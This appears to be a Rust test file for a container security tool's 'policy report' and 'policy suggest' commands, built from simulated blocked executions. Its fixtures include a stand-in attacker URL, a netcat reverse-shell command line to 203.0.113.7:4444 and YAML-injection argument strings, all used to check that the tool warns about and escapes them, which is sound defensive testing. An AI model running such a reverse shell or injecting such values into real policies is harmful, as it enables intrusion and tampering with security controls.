use portcullis_proto::v1::{Ancestor, Signal, Verdict};
use serde_json::{Value, json};

use crate::support::*;

/// A health check: `curl -fsS http://localhost:8080/health?n=…`, in one of three containers, on one of ten days.
fn health(number: u64) -> Signal {
    let mut signal = signal(number);
    signal.verdict = Verdict::WouldBlock.into();
    signal.time.as_mut().unwrap().seconds += 86_400 * (number % 10).cast_signed();
    let tool = signal.tool.as_mut().unwrap();
    (tool.id, tool.category) = ("curl".into(), "http".into());
    let container = signal.container.as_mut().unwrap();
    container.id = format!("c{}", number % 3);
    let process = signal.process.as_mut().unwrap();
    process.argv = vec!["curl".into(), "-fsS".into(), format!("http://localhost:8080/health?n={number}")];
    process.argv_unconfirmed = false;
    process.places.clear();
    signal.lineage = vec![Ancestor { exe: "/usr/local/bin/health".into(), ..Ancestor::default() }];
    signal
}

/// 500 health checks, 3 backdoors that were blocked, and one more than usual.
fn node() -> (Node, Agent, Data) {
    let mut signals: Vec<Signal> = (0..500).map(health).collect();
    signals.extend((500..503).map(signal));
    let mut odd = health(503);
    odd.process.as_mut().unwrap().argv[2] = "http://evil.example/x".into();
    signals.push(odd);
    let data = Data { signals, ..Data::default() };
    let node = Node::new();
    let agent = Agent::start(&node, data.clone());
    (node, agent, data)
}

#[test]
fn a_report_tells_what_enforce_would_stop() {
    let (node, _agent, data) = node();
    let output = node.run(&["policy", "report", "--since", "2023-11-01T00:00:00Z"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let text = stdout(&output);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 3, "{text}");
    let columns = |line: &str| line.split_whitespace().take(8).map(str::to_owned).collect::<Vec<_>>();
    let curl = ["shop", "web", "docker.io/library/web", "curl", "501", "0", "500", "2023-11-23T22:13:20Z"];
    assert_eq!(columns(lines[1]), curl, "{text}");
    assert!(lines[1].ends_with("curl -fsS 'http://localhost:8080/health?n=0'"), "{text}");
    assert_eq!(columns(lines[2])[3..7], ["nc", "0", "3", "0"], "{text}");
    let said = stderr(&output);
    assert!(
        said.contains("3 executions were stopped, and in enforce mode 501 more would have been; 500 of all"),
        "{said}"
    );
    assert!(said.contains("portcullis policy suggest"), "{said}");

    // A page at a time, and one list for each verdict.
    let lists = data.lists.lock().unwrap();
    assert_eq!(lists.len(), 5);
    assert!(lists.iter().all(|list| list.filter.as_ref().unwrap().since.unwrap().seconds == 1_698_796_800));
}

#[test]
fn a_reports_json_has_every_field() {
    let (node, _agent, _) = node();
    let json = node.json(&["policy", "report"]);
    assert_eq!(
        json[0],
        json!({
            "namespace": "shop", "container": "web", "repository": "docker.io/library/web", "tool": "curl", "category": "http",
            "wouldBlock": 501, "stopped": 0, "habitual": 500, "containers": 3,
            "firstSeen": "2023-11-14T22:13:20.123456789Z", "lastSeen": "2023-11-23T22:13:20.123456789Z",
            "policies": ["default"], "sample": ["curl", "-fsS", "http://localhost:8080/health?n=0"],
        })
    );
    let yaml = stdout(&node.run(&["policy", "report", "-o", "yaml"]));
    assert_eq!(serde_saphyr::from_str::<Value>(&yaml).unwrap(), json);
    assert_eq!(node.json(&["policy", "report", "--image", "*/other:*"]), json!([]));
    assert_eq!(node.json(&["policy", "report", "--image", "docker.io/*/web:?"]), json);
    assert_eq!(node.json(&["policy", "report", "--namespace", "k8s.io"]), json!([]));
    assert_eq!(node.json(&["policy", "report", "--namespace", "shop", "--min-times", "501"])[0]["habitual"], 0);
    assert_eq!(node.run(&["policy", "report", "--min-spread", "257"]).status.code(), Some(2));
    let nothing = node.run(&["policy", "report", "--image", "x"]);
    assert_eq!(stdout(&nothing), "");
    assert!(stderr(&nothing).contains("nothing was stopped"), "{}", stderr(&nothing));
}

#[test]
fn suggestions_are_a_part_of_a_policy() {
    let (node, _agent, _) = node();
    let output = node.run(&["policy", "suggest", "--min-times", "3", "--min-spread", "1"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let text = stdout(&output);
    let policy: Value = serde_saphyr::from_str(&text).unwrap();
    assert_eq!(
        policy,
        json!({"spec": {"exceptions": [{
            "tools": ["curl"],
            "arguments": ["-fsS", "http://localhost:8080/health?n=*"],
            "parents": ["/usr/local/bin/health"],
            "users": [33],
            "images": ["docker.io/library/web:1"],
            "reason": "habitual: 500 times from 2023-11-14 to 2023-11-23",
        }]}}),
        "{text}"
    );
    for line in [
        "    # times 500, containers 3, days 10, first 2023-11-14T22:13:20Z, last 2023-11-23T22:13:20Z",
        "    # by shop web docker.io/library/web",
        "    # such as: curl -fsS 'http://localhost:8080/health?n=0'",
        // What had better not be, is there to see.
        "    # - tools: [\"nc\"]",
        "    #   arguments: [\"-e\", \"/bin/sh -i\", \"203.0.113.7\", \"4444\"]",
        "    # Note: 3 of 3 times the arguments were read where the process could change them.",
    ] {
        assert!(text.lines().any(|found| found == line), "{line}\n{text}");
    }
    assert_eq!(text.matches("# WARNING: ").count(), 3, "{text}");
    // Taken in as it would be by hand, the warned of as well.
    let all = text.replace("    # - tools", "    - tools").replace("    #   ", "      ");
    let all: Value = serde_saphyr::from_str(&all).unwrap();
    assert_eq!(all["spec"]["exceptions"][1]["tools"], json!(["nc"]));

    let json = node.json(&["policy", "suggest"]);
    assert_eq!(json.as_array().unwrap().len(), 1);
    assert_eq!(json[0]["exception"]["ancestors"], json!([]));
    assert_eq!(
        (&json[0]["wouldBlock"], &json[0]["containers"], &json[0]["days"]),
        (&json!(500), &json!(3), &json!(10))
    );
    assert_eq!(json[0]["workloads"][0]["container"], "web");
}

#[test]
fn only_dangerous_habits_make_no_exceptions() {
    let data = Data { signals: (0..9).map(signal).collect(), ..Data::default() };
    let node = Node::new();
    let _agent = Agent::start(&node, data);
    let text = stdout(&node.run(&["policy", "suggest", "--min-spread", "1"]));
    assert!(text.contains("# spec:\n#   exceptions:\n"), "{text}");
    assert!(text.lines().all(|line| line.trim().is_empty() || line.trim_start().starts_with('#')), "{text}");
    let none = node.run(&["policy", "suggest"]);
    assert_eq!((none.status.code(), stdout(&none).as_str()), (Some(0), ""));
    assert!(stderr(&none).contains("nothing is habitual"), "{}", stderr(&none));
}

#[test]
fn hostile_habits_are_harmless() {
    let mut signals: Vec<Signal> = (0..9).map(hostile).collect();
    for signal in &mut signals {
        signal.policy = HOSTILE.into();
        signal.container.as_mut().unwrap().containerd_namespace = HOSTILE.into();
        let process = signal.process.as_mut().unwrap();
        process.argv = vec!["nc".into(), HOSTILE.into(), "x\n- tools: [curl]\n#".into(), "\"]".into()];
        process.places.clear();
        signal.lineage[0].exe = format!("/{HOSTILE}");
    }
    let node = Node::new();
    let _agent = Agent::start(&node, Data { signals, ..Data::default() });
    for verb in ["report", "suggest"] {
        for format in ["table", "wide", "json", "yaml"] {
            let output = node.run(&["policy", verb, "--min-spread", "1", "-o", format]);
            assert!(output.status.success() && !output.stdout.is_empty(), "{}", stderr(&output));
            assert_harmless(&stdout(&output));
            assert!(!stdout(&output).lines().any(|line| line.starts_with("- tools: [curl]")));
        }
    }
    let text = stdout(&node.run(&["policy", "suggest", "--min-spread", "1"]));
    let policy: Value = serde_saphyr::from_str(&text).unwrap();
    let exception = &policy["spec"]["exceptions"][0];
    assert_eq!(exception["arguments"], json!([HOSTILE, "x\n- tools: [curl]\n#", "\"]"]), "{text}");
    assert_eq!(exception["parents"][0], format!("/{HOSTILE}"));
}
